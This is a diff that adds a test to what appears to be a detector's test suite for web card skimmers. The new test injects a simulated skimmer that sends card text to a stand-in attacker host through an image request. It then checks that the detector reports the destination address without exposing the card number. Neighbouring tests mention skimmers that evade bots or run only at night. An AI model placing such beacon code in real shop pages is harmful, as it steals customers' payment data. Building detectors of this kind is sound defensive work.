@@ -115,6 +115,13 @@ test('a skimmer that only robots do not get is seen', async () => {
   assert.equal((await run('fresh')).run.outcome, 'leaking')
 })
 
+test('an address to which the card left is told without the card', async () => {
+  shop.infect(skimmer('new Image().src = attacker + "/" + text + ".gif"'))
+  const watched = await run('fresh')
+  assert.equal(canaries(watched)[0]!.url, `${shop.attacker}/-card-.gif`)
+  assert.doesNotMatch(JSON.stringify(watched.run), new RegExp(watched.number))
+})
+
 test('a skimmer that works at night only is seen by the night', async () => {
   shop.infect(skimmer(viaImage, 'new Date().getHours() < 6'))
   assert.equal((await run('night')).run.outcome, 'leaking')
